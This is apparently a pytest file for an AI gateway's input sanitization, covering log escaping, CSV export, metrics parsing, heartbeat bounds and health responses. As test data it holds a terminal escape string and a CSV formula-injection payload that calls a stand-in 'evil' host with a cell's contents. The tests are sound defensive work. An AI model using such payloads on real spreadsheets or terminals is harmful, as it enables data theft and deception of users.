"""What a joined worker says is plain text and numbers within reason, wherever it is shown."""

import csv
import io
import json
import logging

import pytest
from prometheus_client.parser import text_string_to_metric_families
from support.exposition import heartbeat

from ichat.admin.lists import to_json
from ichat.errors import WHY_CHARACTERS_MAX, ApiError
from ichat.fleet.packed_args import ArgsPacker
from ichat.observability import exposition
from ichat.observability.logs.log_format import LineFormatter, shown_safely
from ichat.observability.usage.queries import UsageQuestion
from ichat.observability.usage.report import csv_lines, report_of
from ichat.observability.usage.rows import UsageGroup, no_sums
from ichat.protocol.json_text import parsed
from ichat.protocol.json_text import to_json as plain_json
from ichat.protocol.messages import parse_heartbeat, parse_short_heartbeat

NEEDED = {"worker_id": "w", "model_name": "m", "host": "10.0.0.1", "port": 9}
UNSAFE = "\x1b]0;owned\x07\x9b2J\u202egpj.exe\ud800\r\n\u2028"


# The log.


def test_no_character_of_a_log_line_moves_the_cursor():
    """Escapes stand for control characters and for what turns text around, in messages and in tracebacks."""
    try:
        raise ValueError(UNSAFE)
    except ValueError as error:
        info = (type(error), error, error.__traceback__)
    record = logging.LogRecord("ichat", logging.ERROR, "", 0, "a worker says %s", (UNSAFE,), info)
    text = LineFormatter().format(record)
    assert all(character.isprintable() or character == "\n" for character in text), ascii(text)
    first, *rest = text.split("\n")
    shown = "\\x1b]0;owned\\x07\\x9b2J\\u202egpj.exe\\ud800\\x0d\\n\\u2028"
    assert first.endswith(f"ERROR   ichat: a worker says {shown}")
    assert rest[0] == "Traceback (most recent call last):"
    text.encode()
    assert shown_safely("Grüße, 世界 🙂\tend\n") == "Grüße, 世界 🙂\tend\n"


async def test_the_reason_of_a_worker_that_declines_is_cleaned(serve, gateway_to, connect, caplog):
    """A worker's words are one short line of printable characters, for the client and for the log."""
    why = b"\x1b[2J\x9b31m" + b"y" * 4000

    async def reply(stream, head, body):
        headers = b"x-ichat-code: model_not_ready\r\nx-ichat-why: " + why + b"\r\n"
        await stream.send_all(b"HTTP/1.1 503 no\r\n" + headers + b"content-length: 0\r\n\r\n")

    _, worker = await serve(reply)
    port = await gateway_to({})
    await heartbeat(connect, port, worker)
    with caplog.at_level(logging.WARNING):
        status, _, body = await (await connect(port)).ask()
    message = json.loads(body)["error"]["message"]
    assert status == 503
    assert "its worker is not ready (?[2J?31myyy" in message
    for text in (message, *(record.getMessage() for record in caplog.records)):
        assert text.isprintable()
        assert len(text) < WHY_CHARACTERS_MAX + 200


# CSV.


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_text_of_a_csv_is_a_formula(start):
    """It begins with an apostrophe; numbers and other texts are as they were."""
    model = f'{start}HYPERLINK("http://evil/?"&A2,"x")'
    groups = {UsageGroup(0, "a key", name, "w"): no_sums() for name in (model, "a=b")}
    report = report_of(UsageQuestion(0, 1, ("model", "key")), groups, {})
    rows = list(csv.DictReader(io.StringIO("".join(csv_lines(report)), newline="")))
    assert {row["model"] for row in rows} == {f"'{model}", "a=b"}
    assert {(row["key"], row["requests"]) for row in rows} == {("a key", "0")}


# Metrics.


def shown(text, **bounds):
    """Return what a scrape shows of a worker's metrics."""
    families = {}
    for _ in exposition.read_steps(text, {"worker": "w"}, families, **bounds):
        pass
    return "".join(exposition.written([families]))


@pytest.mark.parametrize(
    "line",
    [
        "a 1_0", "a ١", "a 1\r", "a 0x1F", "a infinity", "a nan", "a 1e999", "a -1e999", "a 1e99999", "a 1 1_0", "a 1.5 2.5",
        "a 1 99999999999999999999", "a", "a ", "a 1 2 3", 'a{b="\x00"} 1', 'a{b="\\x"} 1', 'a{b="1",b="2"} 1',
        'a{worker="1",exported_worker="2"} 1', 'a{b="1"c="2"} 1', "a " + "1" * 1000, "# TYPE a counter\r",
        "#\u2003TYPE a counter", "# TYPE a nonsense", "# HELP a", "a\x00 1",
    ],
)  # fmt: skip
def test_lines_that_prometheus_cannot_read_are_left_out(line):
    """It would refuse all of an answer for one such line."""
    text = shown(f"# TYPE good gauge\ngood 1\n{line}\ngood 2\n")
    assert text == '# TYPE good gauge\ngood{worker="w"} 1\ngood{worker="w"} 2\n'


@pytest.mark.parametrize(
    "value", ["1", "-1", "+1.5", ".5", "5.", "1e3", "1E-9", "1.5e+300", "+Inf", "-Inf", "NaN", "1 123", "1 -123"]
)
def test_lines_that_prometheus_reads_stay_unchanged(value):
    """In the same words."""
    text = shown(f"# HELP a An é\t\x00.\n# TYPE a gauge\na {value}\n")
    assert text == f'# HELP a An é\t?.\n# TYPE a gauge\na{{worker="w"}} {value}\n'
    assert len(list(text_string_to_metric_families(text))) == 1


def test_the_samples_of_one_worker_are_bounded():
    """The rest of a longer answer is left out."""
    assert shown("a 1\n" * 50, samples_max=5).count("\n") == 5


# Heartbeats.


@pytest.mark.parametrize(
    "wrong",
    [
        {"models": [{"id": "m", "max_model_len": 10**400}]},
        {"models": [{"id": "m", "max_model_len": -1}]},
        {"models": [{"id": "m", "max_model_len": 10**13}]},
        {"pid": 10**400},
        {"pid": -1},
        {"port": 10**400},
        {"max_in_flight": -(10**400)},
        {"heartbeat_interval": 10**400},
        {"heartbeat_interval": float("nan")},
        {"progress": {"steps": 10**400}},
        {"progress": {"steps": float("nan")}},
        {"progress": {"steps": float("inf")}},
        {"progress": {"x" * 65: 1}},
        {"progress": {"\x1b": 1}},
        {"progress": {"\ud800": 1}},
        {"progress": {f"n{number}": 1 for number in range(65)}},
        {"machine": {"id": "a", "name": "b", "cpus": 10**400}},
        {"machine": {"id": "..", "name": "b"}},
        {"group": {"id": "g", "rank": 10**400, "size": 2}},
        {"model_name": "\ud800"},
        {"phase": "\u202e"},
        {"versions": {"vllm": "\ud800"}},
        {"args": {"deep": [1e999]}},
        {"worker_id": ".."},
        {"worker_id": "."},
        {"worker_id": "external:gpt"},
        {"worker_id": "w\n"},
        {"worker_id": "a/b"},
    ],
)
def test_a_number_or_text_out_of_bounds_is_refused(wrong):
    """With a sentence, never by an error of the gateway's own."""
    with pytest.raises(ApiError) as refused:
        parse_heartbeat(NEEDED | wrong)
    assert refused.value.status == 400
    refused.value.body()
    if wrong.keys() <= {"progress", "worker_id", "machine", "phase"}:
        with pytest.raises(ApiError):
            parse_short_heartbeat({"worker_id": "w", "registration": "r", **wrong})


@pytest.mark.parametrize("worker_id", ["node-1-4711-abcd", "m-0", "a.b:1_2", "...", ".x", "externals", "x:external:"])
def test_the_ids_of_workers_of_our_own_are_right(worker_id):
    """Made from host and process, or from the model's name."""
    assert parse_heartbeat(NEEDED | {"worker_id": worker_id}).worker_id == worker_id


def test_arguments_of_an_engine_that_are_no_json_are_texts():
    """A worker sends no NaN and no halves of characters; one that does is understood, and what is shown is JSON."""
    sent = plain_json({"args": {"a": [float("nan"), float("-inf"), 1.5], "b": "\ud800"}})
    sent.encode("ascii")
    assert json.loads(sent, parse_constant=pytest.fail) == {"args": {"a": ["NaN", "-Infinity", 1.5], "b": "\ud800"}}
    found = parse_heartbeat(NEEDED | parsed(b'{"args": {"a": [NaN, -Infinity, Infinity]}}'))
    assert found.args == {"a": ["NaN", "-Infinity", "Infinity"]}
    assert ArgsPacker().pack(found.args).unpack() == found.args
    assert json.loads(to_json({"a": float("inf"), "b": ["\ud800"]}), parse_constant=pytest.fail)["a"] == "Infinity"


# A worker's health.


@pytest.mark.parametrize("is_well", [True, False])
async def test_a_strangers_question_for_the_health_is_answered_by_the_status_alone(make_worker, connect, is_well):
    """Its id and its phase, with the model's name in it, are for its machine, its gateway, and who knows the id."""
    _, port = await make_worker(*([] if is_well else ["--load-s", "3600"]), wait=is_well)
    client = await connect(port)

    async def ask(*headers):
        lines = b"".join(b"%b: %b\r\n" % one for one in headers)
        await client.send(b"GET /health HTTP/1.1\r\nhost: 127.0.0.1:%d\r\n%b\r\n" % (port, lines))
        status, found, body = await client.response(b"GET")
        return status, found.get(b"x-ichat-worker"), set(json.loads(body))

    status = 200 if is_well else 503
    more = {"status"} if is_well else {"status", "phase"}
    assert await ask((b"authorization", b"Bearer t")) == (status, b"w", more)
    stranger = (b"x-forwarded-for", b"1.2.3.4")
    assert await ask(stranger) == (status, None, {"status"})
    assert await ask(stranger, (b"x-ichat-worker", b"v")) == (status, None, {"status"})
    assert await ask(stranger, (b"x-ichat-worker", b"w")) == (status, b"w", {"status"})
